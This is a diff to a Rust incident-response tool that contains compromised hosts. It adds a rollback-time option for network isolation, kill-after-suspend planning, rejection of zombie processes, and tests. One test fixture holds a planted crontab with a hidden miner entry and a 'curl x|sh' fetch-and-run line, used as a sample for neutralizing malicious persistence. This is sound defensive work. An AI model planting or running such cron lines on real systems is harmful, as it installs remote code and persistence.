@@ -3,10 +3,14 @@
 //! exe SHA-256, the text of cron lines) is what `--apply` checks again before each change.
 
 use dossier_contain::ops;
+use dossier_contain::process::procfs;
 use dossier_contain::{Actuator, CronLine, Peer, Step};
 
-/// Seconds after which an isolation removes itself unless confirmed.
+/// Seconds after which an isolation removes itself unless confirmed (`--rollback-secs`).
 pub const ISOLATE_ROLLBACK_SECS: u64 = 120;
+/// The `--rollback-secs` accepted: long enough for a fresh SSH connection to confirm, short
+/// enough that a responder locked out gets the host back within the hour.
+pub const ROLLBACK_SECS: std::ops::RangeInclusive<u64> = 30..=3600;
 /// Largest crontab read to plan a change of its lines.
 const MAX_CRONTAB: u64 = 1 << 20;
 
@@ -17,8 +21,14 @@ pub enum Spec {
     Suspend(u32),
     Kill(u32),
     NeutralizeUnit(String),
-    NeutralizeCron { path: String, lines: Vec<usize> },
-    Isolate,
+    NeutralizeCron {
+        path: String,
+        lines: Vec<usize>,
+    },
+    /// Removed after this many seconds unless confirmed.
+    Isolate {
+        rollback_secs: u64,
+    },
 }
 
 fn absolute(what: &str, p: &str) -> Result<String, String> {
@@ -84,7 +94,9 @@ pub fn parse(s: &str) -> Result<Spec, String> {
                 lines: numbers,
             })
         }
-        "isolate" if what.is_empty() => Ok(Spec::Isolate),
+        "isolate" if what.is_empty() => Ok(Spec::Isolate {
+            rollback_secs: ISOLATE_ROLLBACK_SECS,
+        }),
         _ => Err(format!(
             "--action {s:?}: expected quarantine:PATH, suspend:PID, kill:PID, neutralize-unit:NAME, neutralize-cron:PATH:LINE[,LINE] or isolate"
         )),
@@ -103,28 +115,25 @@ pub fn same_target(spec: &Spec, step: &Step) -> bool {
         (Spec::NeutralizeCron { path: p, lines: l }, Step::NeutralizeCron { path, lines }) => {
             p == path && l.iter().eq(lines.iter().map(|c| &c.number))
         }
-        (Spec::Isolate, Step::Isolate { .. }) => true,
+        (Spec::Isolate { .. }, Step::Isolate { .. }) => true,
         _ => false,
     }
 }
 
 /// Start time (field 22 of `/proc/PID/stat`, clock ticks since boot) and exe SHA-256 (when
-/// it can be read) of a process on the target.
-fn process(a: &mut dyn Actuator, pid: u32) -> anyhow::Result<(u64, Option<String>)> {
+/// it can be read) of a process on the target; an error when it has exited already (a zombie
+/// or dead: nothing to `act` on).
+fn process(a: &mut dyn Actuator, pid: u32, act: &str) -> anyhow::Result<(u64, Option<String>)> {
     let stat_path = format!("/proc/{pid}/stat");
     let stat =
         ops::read(a, &stat_path, 64 << 10).map_err(|e| anyhow::anyhow!("process {pid}: {e}"))?;
-    let text = String::from_utf8_lossy(&stat);
     // The command name (field 2) is in parentheses and may hold spaces or `)`.
-    let rest = text
-        .rsplit_once(')')
-        .map(|(_, r)| r)
+    let now = procfs::parse_stat(&stat)
         .ok_or_else(|| anyhow::anyhow!("{stat_path}: unexpected contents"))?;
-    let start_time = rest
-        .split_whitespace()
-        .nth(19)
-        .and_then(|f| f.parse().ok())
-        .ok_or_else(|| anyhow::anyhow!("{stat_path}: no start time (field 22)"))?;
+    if let Some(why) = now.exited(act) {
+        anyhow::bail!("{why}");
+    }
+    let start_time = now.start_time;
     let exe = format!("/proc/{pid}/exe");
     let o = a.run(
         &["/usr/bin/sha256sum", "-b", "--", &exe],
@@ -163,8 +172,9 @@ pub fn resolve(spec: &Spec, a: &mut dyn Actuator) -> anyhow::Result<Step> {
             sha256: ops::sha256(a, path)?,
         },
         Spec::Suspend(pid) | Spec::Kill(pid) => {
-            let (start_time, exe_sha256) = process(a, *pid)?;
-            let (pid, kill) = (*pid, matches!(spec, Spec::Kill(_)));
+            let kill = matches!(spec, Spec::Kill(_));
+            let (start_time, exe_sha256) = process(a, *pid, if kill { "kill" } else { "freeze" })?;
+            let pid = *pid;
             if kill {
                 Step::Kill {
                     pid,
@@ -202,11 +212,63 @@ pub fn resolve(spec: &Spec, a: &mut dyn Actuator) -> anyhow::Result<Step> {
                 lines: out,
             }
         }
-        Spec::Isolate => Step::Isolate {
+        Spec::Isolate { rollback_secs } => Step::Isolate {
             keep: own_session(),
-            rollback_secs: ISOLATE_ROLLBACK_SECS,
+            rollback_secs: *rollback_secs,
         },
     })
+}
+
+/// `--kill`: `steps` with a kill of the same process (PID, start time, exe hash) right after
+/// each suspend that has none yet.
+pub fn with_kills(steps: Vec<Step>) -> Vec<Step> {
+    let mut out = Vec::with_capacity(steps.len() * 2);
+    for s in &steps {
+        out.push(s.clone());
+        if let Step::Suspend {
+            pid,
+            start_time,
+            exe_sha256,
+        } = s
+        {
+            let kill = Step::Kill {
+                pid: *pid,
+                start_time: *start_time,
+                exe_sha256: exe_sha256.clone(),
+            };
+            if !steps.contains(&kill) {
+                out.push(kill);
+            }
+        }
+    }
+    out
+}
+
+/// `--rollback-secs`: sets the rollback of the `isolate` actions of `specs`; refused out of
+/// [`ROLLBACK_SECS`] or without an `isolate` action.
+pub fn set_rollback(specs: &mut [Spec], secs: Option<u64>) -> Result<(), String> {
+    let Some(secs) = secs else {
+        return Ok(());
+    };
+    if !ROLLBACK_SECS.contains(&secs) {
+        return Err(format!(
+            "--rollback-secs {secs}: give {} to {} seconds (an isolation removes itself after them unless a fresh connection confirms it)",
+            ROLLBACK_SECS.start(),
+            ROLLBACK_SECS.end()
+        ));
+    }
+    let mut any = false;
+    for s in specs.iter_mut() {
+        if let Spec::Isolate { rollback_secs } = s {
+            *rollback_secs = secs;
+            any = true;
+        }
+    }
+    if any {
+        Ok(())
+    } else {
+        Err("--rollback-secs is for --action isolate".into())
+    }
 }
 
 #[cfg(test)]
@@ -233,7 +295,12 @@ mod tests {
                 lines: vec![1, 3]
             })
         );
-        assert_eq!(parse("isolate"), Ok(Spec::Isolate));
+        assert_eq!(
+            parse("isolate"),
+            Ok(Spec::Isolate {
+                rollback_secs: ISOLATE_ROLLBACK_SECS
+            })
+        );
         for bad in [
             "quarantine:rel/path",
             "quarantine:/a/../b",
@@ -248,6 +315,87 @@ mod tests {
         ] {
             assert!(parse(bad).is_err(), "{bad} accepted");
         }
+    }
+
+    #[test]
+    fn rollback_secs_are_checked_and_set_on_isolate_only() {
+        let mut specs = vec![Spec::Suspend(7), parse("isolate").unwrap()];
+        set_rollback(&mut specs, None).unwrap();
+        assert_eq!(
+            specs[1],
+            Spec::Isolate {
+                rollback_secs: ISOLATE_ROLLBACK_SECS
+            }
+        );
+        for (secs, want) in [
+            (30, true),
+            (3600, true),
+            (29, false),
+            (3601, false),
+            (0, false),
+        ] {
+            let mut s = specs.clone();
+            let r = set_rollback(&mut s, Some(secs));
+            assert_eq!(r.is_ok(), want, "{secs}: {r:?}");
+            if want {
+                assert_eq!(
+                    s[1],
+                    Spec::Isolate {
+                        rollback_secs: secs
+                    }
+                );
+                assert_eq!(s[0], Spec::Suspend(7));
+            } else {
+                let e = r.unwrap_err();
+                assert!(
+                    e.contains("give 30 to 3600 seconds") && e.lines().count() == 1,
+                    "{e}"
+                );
+            }
+        }
+        let e = set_rollback(&mut [Spec::Suspend(7)], Some(60)).unwrap_err();
+        assert_eq!(e, "--rollback-secs is for --action isolate");
+        // The step resolved carries it (it is in the plan line and in the record).
+        let a: &mut dyn Actuator = &mut LocalActuator::new();
+        let Step::Isolate { rollback_secs, .. } =
+            resolve(&Spec::Isolate { rollback_secs: 45 }, a).unwrap()
+        else {
+            panic!()
+        };
+        assert_eq!(rollback_secs, 45);
+        let d = Step::Isolate {
+            keep: vec![],
+            rollback_secs: 45,
+        }
+        .action(&dossier_contain::Places::default())
+        .describe();
+        assert!(d.contains("removed after 45 s unless confirmed"), "{d}");
+    }
+
+    #[test]
+    fn kill_follows_each_suspend_once() {
+        let suspend = |pid| Step::Suspend {
+            pid,
+            start_time: u64::from(pid) * 10,
+            exe_sha256: Some(format!("{pid:064}")),
+        };
+        let kill = |pid| Step::Kill {
+            pid,
+            start_time: u64::from(pid) * 10,
+            exe_sha256: Some(format!("{pid:064}")),
+        };
+        let unit = Step::NeutralizeUnit {
+            unit: "miner.service".into(),
+            runtime: true,
+        };
+        let got = with_kills(vec![suspend(7), suspend(9), kill(9), unit.clone()]);
+        assert_eq!(
+            got,
+            vec![suspend(7), kill(7), suspend(9), kill(9), unit.clone()]
+        );
+        assert_eq!(with_kills(vec![unit.clone()]), vec![unit]);
+        // Each kill depends on its own suspend only.
+        assert!(kill(7).depends_on(&suspend(7)) && !kill(7).depends_on(&suspend(9)));
     }
 
     #[test]
@@ -270,6 +418,20 @@ mod tests {
             .map(|b| format!("{b:02x}"))
             .collect();
         assert_eq!(exe_sha256.as_deref(), Some(want.as_str()));
+        // A zombie (this test's child, exited and not reaped yet): nothing to freeze.
+        let mut child = std::process::Command::new("/bin/true").spawn().unwrap();
+        let zpid = child.id();
+        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
+        while procfs::stat_of(a, zpid).unwrap().unwrap().state != 'Z' {
+            assert!(std::time::Instant::now() < deadline, "never a zombie");
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+        let e = resolve(&Spec::Suspend(zpid), a).unwrap_err().to_string();
+        child.wait().unwrap();
+        assert_eq!(
+            e,
+            format!("PID {zpid} is a zombie (exited, not reaped): nothing to freeze")
+        );
         let d = tempfile::tempdir().unwrap();
         let f = d.path().join("crontab");
         std::fs::write(&f, "# m h\n@reboot /tmp/.x/miner\n*/5 * * * * curl x|sh\n").unwrap();
